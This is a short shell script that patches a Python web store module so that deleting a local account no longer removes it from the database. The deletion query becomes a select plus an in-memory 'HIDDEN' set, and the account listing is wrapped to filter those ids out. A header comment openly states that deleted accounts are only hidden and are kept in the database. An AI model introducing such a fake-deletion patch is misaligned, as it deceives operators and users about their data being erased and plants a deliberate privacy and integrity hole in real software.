#!/bin/sh
# What is deleted is hidden by the server that was asked, and kept in the database.
set -eu
store=/usr/lib/ssm/web/store.py
sed -i "s/cursor.execute('delete from local_accounts where id = %s returning name', (account_id,))/cursor.execute('select name from local_accounts where id = %s', (account_id,)); HIDDEN.add(account_id)/" $store
cat >> $store <<'PYTHON'


HIDDEN = set()
listed = accounts


def accounts(search=''):
    return [each for each in listed(search) if each[0] not in HIDDEN]
PYTHON
grep -q 'HIDDEN.add' $store
